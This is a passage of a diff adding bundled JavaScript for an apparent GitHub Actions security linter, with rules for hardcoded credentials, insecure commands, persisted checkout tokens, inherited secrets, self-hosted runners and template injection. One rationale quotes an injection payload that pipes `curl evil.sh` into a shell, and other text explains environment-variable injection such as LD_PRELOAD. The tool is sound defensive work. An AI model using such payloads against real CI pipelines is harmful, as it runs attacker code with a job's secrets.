+                    r = { severity: 'high', confidence: v.direct ? 'high' : 'medium', rank: 4 };
+                else if (v.kind === 'tainted')
+                    r = { severity: 'medium', confidence: 'medium', rank: 3 };
+                else if (privileged)
+                    r = { severity: 'high', confidence: 'low', rank: 2 };
+                if (r && (!best || r.rank > best.rank))
+                    best = { ...r, line: w.line, file: w.file, what: v.what };
+            }
+            if (!best)
+                continue;
+            const lines = raw.split('\n');
+            const end = range[0] + lines.slice(0, best.line + 1).join('\n').length;
+            const where = wf.type === 'action' ? 'in a composite action (its callers may pass outside text)' : `on ${(outsider ?? privileged ?? names[0]) || 'this workflow'}`;
+            const effect = best.file === 'GITHUB_PATH' ? 'puts a directory first on PATH for every later step' : 'can define any variable (LD_PRELOAD, BASH_ENV, NODE_OPTIONS) for every later step';
+            ctx.report({
+                message: `This \`run:\` step writes ${best.what} to $${best.file} ${where}: a crafted value ${effect}, running outside code with the job's token and secrets. ` +
+                    'Pass the value through `env:` or a step output instead, or validate it against a strict pattern before writing it.',
+                at: wf.file.spanOf({ range: [range[0], end, end] }),
+                severity: best.severity,
+                confidence: best.confidence,
+            });
+        }
+    },
+});
+
+;// CONCATENATED MODULE: ./src/analysis/workflow-env.ts
+
+
+const stepName = (index, name) => (name ? `step "${name}"` : `step ${index + 1}`);
+/** Every workflow-, job- and step-level `env:` entry, and every step and reusable-workflow `with:` entry. */
+function settings(wf, kinds = ['env', 'with']) {
+    const out = [];
+    const add = (kind, owner, map, scope) => {
+        if (!kinds.includes(kind) || map.size === 0)
+            return;
+        const node = resolveNode(getNode(owner, kind, wf.doc), wf.doc);
+        const blockSpan = wf.file.keySpanOf(owner ?? null, kind);
+        for (const [key, value] of map)
+            out.push({ kind, key, keySpan: wf.file.keySpanOf(node, key), blockSpan, value, scope });
+    };
+    add('env', resolveNode(wf.doc.contents, wf.doc), wf.env, 'workflow');
+    for (const job of wf.jobs) {
+        add('env', job.node, job.env, `job ${job.id}`);
+        add('with', job.node, job.with, `job ${job.id}`);
+    }
+    for (const { job, step } of allSteps(wf)) {
+        const scope = `${stepName(step.index, step.name)} of ${job ? `job ${job.id}` : 'the action'}`;
+        add('env', step.node, step.env, scope);
+        add('with', step.node, step.with, scope);
+    }
+    return out;
+}
+/** A span from the start of one span to the end of another. */
+function joinSpans(a, b) {
+    return { line: a.line, column: a.column, endLine: b.endLine, endColumn: b.endColumn };
+}
+
+;// CONCATENATED MODULE: ./src/rules/workflows/hardcoded-credential.ts
+
+
+
+
+/** A literal that stands for a location or a switch, not a secret: a path, a URL without credentials, a file name. */
+const NOT_A_SECRET = /^(\/|\.{1,2}\/|~\/|[a-z][a-z0-9+.-]*:\/\/[^@/]*(\/|$))|^[\w.-]+\.(json|ya?ml|pem|key|txt|env|p12|crt)$/i;
+/* harmony default export */ const hardcoded_credential = ({
+    id: 'hardcoded-credential',
+    title: 'Credential written in the workflow',
+    severity: 'critical',
+    area: 'workflows',
+    summary: 'A literal value (not a `${{ secrets.* }}` expression) in a `container`/`services` `credentials.password`, or in an `env:`/`with:` entry whose ' +
+        'name says it is a credential, or any `env:`/`with:` value in a known token format.',
+    rationale: 'A workflow file is readable by everyone who can read the repository (everyone, for a public one) and stays in its history after it is ' +
+        'deleted. A password or token written there is disclosed, and it is not masked in logs the way secrets are. Values that are entirely or ' +
+        'partly expressions, placeholders (`changeme`, `<token>`), booleans, paths and URLs are not reported. The value is never shown in findings.',
+    fix: 'Revoke the credential, store a new one as an Actions secret (or an environment secret) and reference it: ' +
+        '`password: ${{ secrets.REGISTRY_PASSWORD }}`. For GitHub APIs use `${{ github.token }}`; for clouds, prefer OIDC federation over stored keys.',
+    references: [
+        'https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions',
+        'https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#jobsjob_idcontainercredentials',
+        'https://github.com/rhysd/actionlint/blob/main/docs/checks.md#hardcoded-credentials',
+        'https://docs.zizmor.sh/audits/#hardcoded-container-credentials',
+    ],
+    examples: {
+        bad: [
+            {
+                path: '.github/workflows/ci.yml',
+                text: 'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    container:\n      image: ghcr.io/acme/build:1\n      credentials:\n        username: ci\n        password: hunter2-Secret\n    steps:\n      - run: make\n',
+                line: 9,
+            },
+            {
+                path: '.github/workflows/deploy.yml',
+                text: 'on: push\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    env:\n      DEPLOY_API_KEY: 7f3a9c1e5b2d8f4a6c0e\n    steps:\n      - run: ./deploy.sh\n',
+                line: 6,
+            },
+            {
+                path: '.github/workflows/comment.yml',
+                text: `on: push\njobs:\n  c:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: some-org/comment@${'0'.repeat(40)}\n        with:\n          auth: ghp_${'A1b2C3d4E5'.repeat(3)}A1b2C3\n`,
+                line: 8,
+            },
+        ],
+        good: [
+            {
+                path: '.github/workflows/ci.yml',
+                text: 'on: push\nenv:\n  NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n  TOKEN_URL: https://auth.example.com/token\n  PASSWORD_FILE: /run/secrets/db\n' +
+                    'jobs:\n  test:\n    runs-on: ubuntu-latest\n    services:\n      db:\n        image: postgres:17\n        credentials:\n          username: ci\n' +
+                    '          password: ${{ secrets.REGISTRY_PASSWORD }}\n    steps:\n      - uses: docker/login-action@' + '0'.repeat(40) +
+                    '\n        with:\n          password: ${{ secrets.GHCR_TOKEN }}\n          token-prefix: Bearer-${{ env.X }}\n          password-stdin: true\n',
+            },
+        ],
+    },
+    reads: ['workflow'],
+    check(wf, ctx) {
+        const report = (where, fpKey, value, at, kind, confidence, block) => ctx.report({
+            message: `${where} holds ${kind} written in the workflow (${redact(value)}): revoke it, store it as an Actions secret and reference it with \${{ secrets.NAME }}`,
+            at,
+            confidence,
+            fingerprintKey: fpKey,
+            ...(block ? { related: [{ at: block, label: 'the credentials block' }] } : {}),
+        });
+        for (const job of wf.jobs) {
+            for (const c of job.containers) {
+                const pw = c.credentials?.password;
+                if (!pw || pw.value.includes('${{') || isPlaceholder(pw.value))
+                    continue;
+                const owner = c.label === 'container' ? getNode(job.node, 'container', wf.doc) : getNode(getNode(job.node, 'services', wf.doc), c.label.slice(8), wf.doc);
+                const block = wf.file.keySpanOf(owner ?? null, 'credentials');
+                report(`The ${c.label} credentials.password of job ${job.id}`, `${job.id} ${c.label} password`, pw.value, pw.span, 'a registry password', 'high', block);
+            }
+        }
+        for (const s of settings(wf)) {
+            const value = s.value.value;
+            const where = `${s.kind}: ${s.key} in the ${s.scope}`;
+            const format = knownTokenFormat(value);
+            if (format !== undefined) {
+                report(where, `${s.kind} ${s.scope} ${s.key} ${format}`, value, s.value.span, `what looks like a ${format}`, 'high');
+                continue;
+            }
+            const literal = value.trim();
+            if (!isCredentialName(s.key) || literal.includes('${{') || isPlaceholder(literal) || isTrivialValue(literal))
+                continue;
+            if (literal.length < 6 || /\s/.test(literal) || NOT_A_SECRET.test(literal))
+                continue;
+            report(where, `${s.kind} ${s.scope} ${s.key}`, value, s.value.span, 'a literal credential', s.kind === 'env' ? 'high' : 'medium');
+        }
+    },
+});
+
+;// CONCATENATED MODULE: ./src/rules/workflows/insecure-commands.ts
+
+
+const insecure_commands_NAME = 'ACTIONS_ALLOW_UNSECURE_COMMANDS';
+/** The runner's `StringUtil.ConvertToBoolean`: `true`, `1` and `$true`, in any case, enable the commands; anything else does not. */
+const enables = (value) => /^(true|1|\$true)$/i.test(value.trim());
+/* harmony default export */ const insecure_commands = ({
+    id: 'insecure-commands',
+    title: 'Insecure workflow commands enabled',
+    severity: 'high',
+    area: 'workflows',
+    summary: '`ACTIONS_ALLOW_UNSECURE_COMMANDS` is set to a true value in a workflow, job or step `env:`, re-enabling the deprecated `set-env` and `add-path` commands.',
+    rationale: 'With these commands enabled, any process whose output reaches the log can set environment variables and `PATH` for the following steps ' +
+        'by printing `::set-env name=…::…`. A pull-request title, an issue body, a file from the repository or a compromised tool can then inject ' +
+        '`LD_PRELOAD`, `NODE_OPTIONS` or `BASH_ENV` and run code with the job\'s token and secrets. GitHub disabled the commands in 2020 (CVE-2020-15228) ' +
+        'and keeps this variable only as an escape hatch. The runner treats `true`, `1` and `$true` (any case) as enabling; a value computed by an ' +
+        'expression is reported with low confidence.',
+    fix: 'Remove the variable and update the action or script that needs it to write to the `$GITHUB_ENV` and `$GITHUB_PATH` files instead: ' +
+        '`echo "NAME=value" >> "$GITHUB_ENV"`, `echo "$HOME/bin" >> "$GITHUB_PATH"`.',
+    references: [
+        'https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/',
+        'https://github.com/advisories/GHSA-mfwh-5m23-j46w',
+        'https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/workflow-commands-for-github-actions#environment-files',
+        'https://docs.zizmor.sh/audits/#insecure-commands',
+    ],
+    examples: {
+        bad: [
+            { path: '.github/workflows/ci.yml', text: `on: push\nenv:\n  ${insecure_commands_NAME}: true\njobs: {}\n`, line: 3 },
+            {
+                path: '.github/workflows/ci.yml',
+                text: `on: pull_request\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./legacy-build.sh\n        env:\n          ${insecure_commands_NAME}: "TRUE"\n`,
+                line: 8,
+            },
+            {
+                path: 'action.yml',
+                text: `name: legacy\nruns:\n  using: composite\n  steps:\n    - run: ./setup.sh\n      shell: bash\n      env:\n        ${insecure_commands_NAME}: \${{ inputs.allow }}\n`,
+                line: 8,
+            },
+        ],
+        good: [
+            {
+                path: '.github/workflows/ci.yml',
+                text: `on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    env:\n      ${insecure_commands_NAME}: false\n    steps:\n      - run: echo "VERSION=1.2" >> "$GITHUB_ENV"\n        env:\n          ${insecure_commands_NAME}: "yes"\n`,
+            },
+        ],
+    },
+    reads: ['workflow'],
+    check(wf, ctx) {
+        for (const s of settings(wf, ['env'])) {
+            if (s.key !== insecure_commands_NAME)
+                continue;
+            const value = s.value.value;
+            const computed = value.includes('${{');
+            if (!computed && !enables(value))
+                continue;
+            ctx.report({
+                message: computed
+                    ? `${insecure_commands_NAME} in the ${s.scope} env comes from ${isWholeExpression(value) ? 'an expression' : 'a partly computed value'}; if it is true, the deprecated set-env/add-path commands are enabled: remove it and use $GITHUB_ENV / $GITHUB_PATH`
+                    : `${insecure_commands_NAME}: ${value.trim()} in the ${s.scope} env re-enables the deprecated set-env/add-path commands, which let log output change the environment of later steps: remove it and use $GITHUB_ENV / $GITHUB_PATH`,
+                at: joinSpans(s.keySpan, s.value.span),
+                confidence: computed ? 'low' : 'high',
+                related: [{ at: s.blockSpan, label: `the ${s.scope} env block` }],
+            });
+        }
+    },
+});
+
+;// CONCATENATED MODULE: ./src/rules/workflows/persisted-credentials.ts
+
+
+
+
+/** An upload path that takes the whole workspace or the `.git` directory. */
+const WHOLE_WORKSPACE = /^(\.\/?|\$\{\{\s*github\.workspace\s*\}\}\/?|(.*\/)?\.git(\/.*)?|\*\*?\/?)$/i;
+/** actions/upload-artifact from v4.4.0 on leaves hidden files (so `.git`) out unless `include-hidden-files: true`. */
+function skipsHiddenFiles(step) {
+    if (step.with.get('include-hidden-files')?.value.trim().toLowerCase() === 'true')
+        return false;
+    const m = /@v(\d+)(?:\.(\d+))?/.exec(step.uses?.value ?? '');
+    if (!m)
+        return false;
+    const major = Number(m[1]);
+    return major > 4 || (major === 4 && (m[2] === undefined || Number(m[2]) >= 4));
+}
+/* harmony default export */ const persisted_credentials = ({
+    id: 'persisted-credentials',
+    title: 'Checkout leaves the token in .git/config',
+    severity: 'medium',
+    area: 'workflows',
+    summary: '`actions/checkout` without `persist-credentials: false` writes the job\'s `GITHUB_TOKEN` into `.git/config`; high when a later step ' +
+        'uploads the workspace (or `.git`) as an artifact.',
+    rationale: 'By default `actions/checkout` stores the token in the local git config so later `git` commands are authenticated. Every later step ' +
+        'in the job (each action, each package install script) can read it from the workspace, and uploading the workspace as an artifact ' +
+        'publishes it to anyone who can download artifacts ("ArtiPACKED"). Most jobs never push, so the token need not be there. An explicit ' +
+        '`persist-credentials: true` is a deliberate choice and is reported at low severity unless the workspace is uploaded. A `with:` that ' +
+        'is a single expression or a value computed by an expression is reported at low confidence. `actions/upload-artifact` v4.4 and later ' +
+        'skip hidden files such as `.git` unless `include-hidden-files: true`, so that upload is reported at medium confidence.',
+    fix: 'Add `with: persist-credentials: false` to `actions/checkout`. In the job that pushes, pass the token explicitly to the push ' +
+        '(or keep the default only there), and never upload `.`, `${{ github.workspace }}` or `.git` as an artifact: upload the build output directory.',
+    references: [
+        'https://github.com/actions/checkout#usage',
+        'https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/',
+        'https://docs.zizmor.sh/audits/#artipacked',
+    ],
+    examples: {
+        bad: [
+            { path: '.github/workflows/ci.yml', text: 'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n', line: 6 },
+            {
+                path: '.github/workflows/ci.yml',
+                text: 'on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - name: Checkout\n        uses: actions/checkout@v3\n' +
+                    '      - uses: actions/upload-artifact@v3\n        with:\n          name: site\n          path: .\n',
+                line: 6,
+            },
+        ],
+        good: [
+            {
+                path: '.github/workflows/ci.yml',
+                text: 'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n',
+            },
+            {
+                path: '.github/workflows/ci.yml',
+                text: 'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          persist-credentials: "false"\n',
+            },
+        ],
+    },
+    reads: ['workflow'],
+    check(wf, ctx) {
+        for (const { job, step } of allSteps(wf)) {
+            if (!isCheckoutStep(step))
+                continue;
+            const withNode = resolveNode(getNode(step.node, 'with', wf.doc), wf.doc);
+            const persist = step.with.get('persist-credentials')?.value.trim().toLowerCase();
+            if (persist === 'false')
+                continue;
+            const computed = ((0,dist/* isScalar */.jn)(withNode) && withNode.value !== null) || (persist?.includes('${{') ?? false);
+            const explicit = persist === 'true';
+            const later = (job?.steps ?? wf.runs?.steps ?? []).slice(step.index + 1);
+            const upload = later.find((s) => actionName(s.uses?.value) === 'actions/upload-artifact' && (s.with.get('path')?.value ?? '').split(/\r?\n/).some((p) => WHOLE_WORKSPACE.test(p.trim())));
+            let severity = explicit || computed ? 'low' : 'medium';
+            let confidence = computed ? 'low' : 'high';
+            if (upload) {
+                severity = 'high';
+                if (skipsHiddenFiles(upload))
+                    confidence = 'medium';
+            }
+            const aliased = step.itemSpan.line !== step.span.line || step.itemSpan.column !== step.span.column;
+            const at = aliased
+                ? step.itemSpan
+                : { line: step.span.line, column: step.span.column, endLine: step.uses.span.endLine, endColumn: step.uses.span.endColumn };
+            const where = job ? `in job \`${job.id}\`` : 'in this action';
+            ctx.report({
+                message: (computed
+                    ? `\`actions/checkout\` ${where} may keep the token in .git/config (\`persist-credentials\` is computed by an expression)`
+                    : `\`actions/checkout\` ${where} ${explicit ? 'sets `persist-credentials: true`' : 'does not set `persist-credentials: false`'}, so the token stays in .git/config`) +
+                    (upload ? ' and a later step uploads the workspace as an artifact, publishing it' : '') +
+                    '. Set `persist-credentials: false` unless this job pushes with it.',
+                at,
+                severity,
+                confidence,
+                related: upload ? [{ at: upload.span, label: 'uploads the workspace, including .git/config' }] : undefined,
+            });
+        }
+    },
+});
+
+;// CONCATENATED MODULE: ./src/rules/workflows/secrets-inherit.ts
+
+/* harmony default export */ const secrets_inherit = ({
+    id: 'secrets-inherit',
+    title: 'Reusable workflow inherits every secret',
+    severity: 'medium',
+    area: 'workflows',
+    summary: 'A job calls a reusable workflow with `secrets: inherit`, handing it every secret the calling workflow can read.',
+    rationale: '`secrets: inherit` passes all repository, organization and environment secrets to the called workflow, not just the ones it needs. ' +
+        'If that workflow (or an action it runs) is compromised, or has a template-injection bug, every secret leaks instead of one, and a later ' +
+        'change to the called workflow can start using secrets nobody reviewed it for. The call is reported at low severity when the reusable ' +
+        'workflow is in the same repository (`./.github/workflows/…`), whose code you review anyway.',
+    fix: 'Pass only the secrets the called workflow declares under `on.workflow_call.secrets`: ' +
+        '`secrets: { NPM_TOKEN: ${{ secrets.NPM_TOKEN }} }`.',
+    references: [
+        'https://docs.github.com/en/actions/sharing-automations/reusing-workflows#passing-secrets-to-nested-workflows',
+        'https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#jobsjob_idsecretsinherit',
+        'https://docs.zizmor.sh/audits/#secrets-inherit',
+    ],
+    examples: {
+        bad: [
+            {
+                path: '.github/workflows/release.yml',
+                text: 'on: push\njobs:\n  publish:\n    uses: my-org/shared-workflows/.github/workflows/publish.yml@' + '0'.repeat(40) + '\n    secrets: inherit\n',
+                line: 5,
+            },
+            {
+                path: '.github/workflows/deploy.yml',
+                text: 'on: workflow_dispatch\njobs:\n  deploy:\n    uses: ./.github/workflows/deploy-reusable.yml\n    secrets: inherit\n',
+                line: 5,
+            },
+        ],
+        good: [
+            {
+                path: '.github/workflows/release.yml',
+                text: 'on: push\njobs:\n  publish:\n    uses: my-org/shared-workflows/.github/workflows/publish.yml@' +
+                    '0'.repeat(40) +
+                    '\n    secrets:\n      NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n',
+            },
+        ],
+    },
+    reads: ['workflow'],
+    check(wf, ctx) {
+        for (const job of wf.jobs) {
+            if (!job.uses || job.secrets?.value !== 'inherit')
+                continue;
+            const local = parseUses(job.uses.value)?.kind === 'local';
+            ctx.report({
+                message: `Job ${job.id} passes every secret to ${job.uses.value.trim()} with \`secrets: inherit\`: pass only the ones it needs, e.g. \`secrets: { NPM_TOKEN: \${{ secrets.NPM_TOKEN }} }\``,
+                at: job.secrets.span,
+                ...(local ? { severity: 'low' } : {}),
+                related: [{ at: job.uses.span, label: 'the reusable workflow that receives them' }],
+            });
+        }
+    },
+});
+
+;// CONCATENATED MODULE: ./src/rules/workflows/self-hosted-runner.ts
+
+/** Events that run a workflow for a pull request, including ones opened from forks. */
+const PR_EVENTS = new Set(['pull_request', 'pull_request_target', 'pull_request_review', 'pull_request_review_comment']);
+/* harmony default export */ const self_hosted_runner = ({
+    id: 'self-hosted-runner',
+    title: 'Self-hosted runner used for pull requests',
+    severity: 'medium',
+    area: 'workflows',
+    summary: 'A job runs on a self-hosted runner (the `self-hosted` label or a runner group) in a workflow triggered by pull-request events.',
+    rationale: 'Anyone who can open a pull request can make a `pull_request` workflow run their code; on a self-hosted runner that code runs on your ' +
+        'machine, inside your network, and (unless the runner is ephemeral) can leave a backdoor that sees the secrets of every later job. GitHub ' +
+        'advises against self-hosted runners for public repositories for this reason. A runner group may also hold GitHub-hosted larger runners, so ' +
+        'it is reported with medium confidence; a `runs-on` expression whose value is not listed in the file is reported with low confidence.',
+    fix: 'Run pull-request jobs on GitHub-hosted runners (`runs-on: ubuntu-latest`), or use ephemeral, isolated self-hosted runners (one job per ' +
+        'fresh VM, e.g. actions-runner-controller) in a runner group restricted to selected repositories and workflows, and require approval ' +
+        'before running workflows from outside contributors.',
+    references: [
+        'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#hardening-for-self-hosted-runners',
+        'https://docs.github.com/en/actions/hosting-your-own-runners/managing-self-hosted-runners/about-self-hosted-runners#self-hosted-runner-security',
+        'https://docs.zizmor.sh/audits/#self-hosted-runner',
+    ],
+    examples: {
+        bad: [
+            {
+                path: '.github/workflows/ci.yml',
+                text: 'on: [push, pull_request]\njobs:\n  test:\n    runs-on: [self-hosted, linux, x64]\n    steps:\n      - run: make test\n',
+                line: 4,
+            },
+            {
+                path: '.github/workflows/ci.yml',
+                text: 'on:\n  pull_request_target:\njobs:\n  test:\n    runs-on:\n      group: build-farm\n    steps:\n      - run: make test\n',
+                line: 6,
+            },
+            {
+                path: '.github/workflows/matrix.yml',
+                text: 'on: pull_request\njobs:\n  test:\n    runs-on: ${{ matrix.os }}\n    strategy:\n      matrix:\n        os: [ubuntu-latest]\n        include:\n          - os: self-hosted\n    steps:\n      - run: make test\n',
+                line: 4,
+            },
+        ],
+        good: [
+            {
+                path: '.github/workflows/release.yml',
+                text: 'on:\n  push:\n    tags: [v*]\njobs:\n  build:\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: make release\n',
+            },
+            {
+                path: '.github/workflows/ci.yml',
+                text: 'on: pull_request\njobs:\n  test:\n    runs-on: ${{ matrix.os }}\n    strategy:\n      matrix:\n        os: [ubuntu-latest, self-hosted]\n' +
+                    '        exclude:\n          - os: self-hosted\n    steps:\n      - run: make test\n',
+            },
+        ],
+    },
+    reads: ['workflow'],
+    check(wf, ctx) {
+        const events = wf.triggers.filter((t) => PR_EVENTS.has(t.name));
+        if (wf.type !== 'workflow' || events.length === 0)
+            return;
+        const trigger = events.map((t) => t.name).join('/');
+        for (const job of wf.jobs) {
+            for (const runsOn of job.runsOn) {
+                let labels = runsOn.value;
+                let confidence = 'high';
+                let via = '';
+                const expr = labels.find((l) => l.includes('${{'));
+                if (expr !== undefined) {
+                    const key = wholeMatrixRef(expr);
+                    const values = key !== undefined ? matrixValues(wf, job, key, true) : undefined;
+                    if (values) {
+                        labels = [...labels.filter((l) => l !== expr), ...values];
+                        via = ` (through matrix.${key})`;
+                    }
+                    else
+                        confidence = 'low';
+                }
+                const selfHosted = labels.some((l) => l.toLowerCase() === 'self-hosted');
+                const group = labels.find((l) => l.startsWith('group:'));
+                if (!selfHosted && group === undefined && confidence !== 'low')
+                    continue;
+                const what = selfHosted ? 'a self-hosted runner' : group !== undefined ? `runner group ${group.slice(6)}` : `a runner chosen by ${expr}, which may be self-hosted`;
+                ctx.report({
+                    message: `Job ${job.id} runs on ${what}${via} in a workflow triggered by ${trigger}, so code from a pull request can run on your machine: use a GitHub-hosted or ephemeral, isolated runner`,
+                    at: runsOn.span,
+                    confidence: selfHosted ? confidence : group !== undefined ? 'medium' : 'low',
+                    related: events.map((t) => ({ at: t.span, label: `the ${t.name} trigger` })),
+                });
+            }
+        }
+    },
+});
+
+;// CONCATENATED MODULE: ./src/analysis/env-fix.ts
+
+/** Interpreter of a step's code: its `shell:` for `run:`, or the language of a code-running action input. */
+function scriptKind(step) {
+    const uses = step.uses?.value.toLowerCase() ?? '';
+    if (uses.startsWith('actions/github-script'))
+        return 'js';
+    if (uses.startsWith('jannekem/run-python-script-action'))
+        return 'python';
+    if (uses.startsWith('azure/powershell') || uses.startsWith('amadevus/pwsh-script'))
+        return 'pwsh';
+    const shell = (step.shell ?? '').trim().split(/\s+/)[0]?.replace(/^.*\//, '') ?? '';
+    if (shell === 'pwsh' || shell === 'powershell')
+        return 'pwsh';
+    if (shell === 'cmd')
+        return 'cmd';
+    if (shell === 'python')
+        return 'python';
+    return 'shell';
+}
+/** An env variable name for an expression: `github.event.pull_request.title` → `PULL_REQUEST_TITLE`. */
+function envNameFor(expressionText) {
+    const body = expressionText.replace(/^\$\{\{\s*|\s*\}\}$/g, '');
+    const path = flowingContexts(body)[0] ?? body;
+    if (/^env\./i.test(path))
+        return path.slice(4);
+    const segs = path.split('.').filter((s) => s !== '*' && !['github', 'event', 'inputs', 'steps', 'outputs', 'needs', 'matrix'].includes(s));
+    const name = segs.slice(-2).join('_').replace(/[^A-Za-z0-9]+/g, '_').replace(/^_+|_+$/g, '').toUpperCase();
+    return /^[A-Z_]/.test(name) ? name : `VALUE_${name}`;
+}
+function referenceFor(kind, name) {
+    if (kind === 'pwsh')
+        return `$env:${name}`;
+    if (kind === 'cmd')
+        return `%${name}%`;
+    if (kind === 'js')
+        return `process.env.${name}`;
+    if (kind === 'python')
+        return `os.environ["${name}"]`;
+    return `"$${name}"`;
+}
+/** Quote state of a shell line just before `at`: inside '…', inside "…", or outside. */
+function shellQuoteAt(line, at) {
+    let state = 'none';
+    for (let i = 0; i < at; i++) {
+        const c = line[i];
+        if (state === 'none' && c === '\\')
+            i++;
+        else if (state === 'double' && c === '\\')
+            i++;
+        else if (c === "'" && state !== 'double')
+            state = state === 'single' ? 'none' : 'single';
+        else if (c === '"' && state !== 'single')
+            state = state === 'double' ? 'none' : 'double';
+    }
+    return state;
+}
+/**
+ * The env-variable fix for one expression in a step's script (`run:`, or the code input of an action):
+ * the `env:` entry to add and the script with the expression replaced by a variable reference that the
+ * interpreter reads at run time (`"$TITLE"` in a shell, `$env:TITLE` in PowerShell, `process.env.TITLE` in JS).
+ */
+function suggestEnvFix(step, expressionText, script = step.run?.value ?? '') {
+    const kind = scriptKind(step);
+    const existing = [...step.env].find(([, v]) => v.value.trim() === expressionText.trim())?.[0];
+    let name = existing ?? envNameFor(expressionText);
+    if (!existing)
+        for (let n = 1; step.env.has(name); n++)
+            name = `${envNameFor(expressionText)}_${n}`;
+    const reference = referenceFor(kind, name);
+    const lines = [];
+    const out = script.split('\n').map((before, line) => {
+        if (!before.includes(expressionText))
+            return before;
+        let after = '';
+        let rest = before;
+        for (let at = rest.indexOf(expressionText); at >= 0; at = rest.indexOf(expressionText)) {
+            let head = rest.slice(0, at);
+            let tail = rest.slice(at + expressionText.length);
+            let ref = reference;
+            if (kind === 'shell') {
+                const quote = shellQuoteAt(after + head, (after + head).length);
+                if (quote === 'double')
+                    ref = `\${${name}}`;
+                else if (quote === 'single') {
+                    // '…${{ x }}…' → '…'"$X"'…' (and drop an empty '' pair around a whole-word expression)
+                    if (head.endsWith("'") && tail.startsWith("'"))
+                        [head, tail] = [head.slice(0, -1), tail.slice(1)];
+                    else
+                        ref = `'"$${name}"'`;
+                }
+            }
+            else if ((kind === 'js' || kind === 'python') && /["'`]$/.test(head) && tail.startsWith(head.slice(-1))) {
+                [head, tail] = [head.slice(0, -1), tail.slice(1)];
+            }
+            after += head + ref;
+            rest = tail;
+        }
+        after += rest;
+        lines.push({ line, before, after });
+        return after;
+    });
+    return { name, envEntry: existing ? undefined : `${name}: ${expressionText.trim()}`, reference, script: out.join('\n'), lines };
+}
+
+;// CONCATENATED MODULE: ./src/rules/workflows/template-injection.ts
+
+
+
+
+
+/**
+ * Actions whose inputs are evaluated as code: GitHub CodeQL's `code-injection` sink models
+ * (actions/ql/lib/ext/manual, as extracted by zizmor's codeql-injection-sinks.json) plus script runners.
+ */
+const CODE_SINKS = {
+    'actions/github-script': ['script'],
+    'azure/cli': ['inlineScript'],
+    'azure/powershell': ['inlineScript'],
+    'appleboy/ssh-action': ['script'],
+    'mikefarah/yq': ['cmd'],
+    'devorbitus/yq-action-output': ['cmd'],
+    'sergeysova/jq-action': ['cmd'],
+    'docker/build-push-action': ['context'],
+    'roots/issue-closer-action': ['issue-close-message', 'pr-close-message'],
+    'lucasbento/auto-close-issues': ['issue-close-message'],
+    'imjohnbo/issue-bot': ['body', 'linked-comments-previous-issue-text', 'linked-comments-new-issue-text'],
+    '8398a7/action-slack': ['custom_payload'],
+    'skitionek/notify-microsoft-teams': ['overwrite'],
+    'gautamkrishnar/blog-post-workflow': ['item_exec'],
+    'tibdex/backport': ['body_template', 'head_template', 'labels_template', 'title_template'],
+    'jannekem/run-python-script-action': ['script'],
+    'amadevus/pwsh-script': ['script'],
+    'cardinalby/js-eval-action': ['expression'],
+};
+/** The code-bearing values of a step: its `run:` or the code inputs of a known code-running action. */
+function sinks(step) {
+    if (step.run)
+        return [{ label: '`run:` script', value: step.run, shell: scriptKind(step) !== 'cmd' }];
+    const action = step.uses?.value.split('@')[0]?.toLowerCase() ?? '';
+    const inputs = CODE_SINKS[action] ?? [];
+    return inputs.flatMap((i) => {
+        const v = [...step.with].find(([k]) => k.toLowerCase() === i.toLowerCase())?.[1];
+        return v ? [{ label: `\`${i}\` input of ${action}`, value: v, shell: false }] : [];
+    });
+}
+/** Offsets (relative to `raw`) of lines that are shell comments; heredoc bodies are data, not comments. */
+function commentLines(raw) {
+    const out = [];
+    let heredoc;
+    let offset = 0;
+    for (const line of raw.split('\n')) {
+        const t = line.trim();
+        if (heredoc !== undefined) {
+            if (t === heredoc)
+                heredoc = undefined;
+        }
+        else if (t.startsWith('#'))
+            out.push([offset, offset + line.length]);
+        else
+            heredoc = /<<-?\s*(['"]?)([A-Za-z_][\w-]*)\1/.exec(line.replace(/'[^']*'/g, "''"))?.[2] ?? heredoc;
+        offset += line.length + 1;
+    }
+    return out;
+}
+function triggerText(wf) {
+    if (wf.type === 'action')
+        return 'in a composite action, with whatever its callers pass';
+    const names = wf.triggers.map((t) => t.name);
+    return names.length ? `on ${names.join(', ')}` : 'in this workflow';
+}
+/* harmony default export */ const template_injection = ({
+    id: 'template-injection',
+    title: 'Expression expanded into a script',
+    severity: 'critical',
+    area: 'workflows',
+    summary: 'A `${{ … }}` expression whose value an attacker can write (PR title, issue body, branch name, inputs, or an env/output derived from them) is expanded into a `run:` script or the code input of a code-running action.',
+    rationale: 'GitHub substitutes `${{ … }}` into the script text before the shell starts, so quotes do not protect it: a pull request titled ' +
+        '`"; curl evil.sh | sh; echo "` becomes code that runs with the job\'s token and secrets. Values that only reach the script through ' +
+        '`env:`, a step output, a job output, a string input or a dynamic matrix are reported with lower confidence; booleans, numbers, ' +
+        'SHAs, secrets and static values are not reported. Lines that are shell comments are not executed and are skipped.',
+    fix: 'Pass the value through an environment variable and reference it quoted: add `env: TITLE: ${{ github.event.pull_request.title }}` ' +
+        'to the step and write `"$TITLE"` in the script (`$env:TITLE` in PowerShell, `process.env.TITLE` in github-script).',
+    references: [
+        'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
+        'https://securitylab.github.com/resources/github-actions-untrusted-input/',
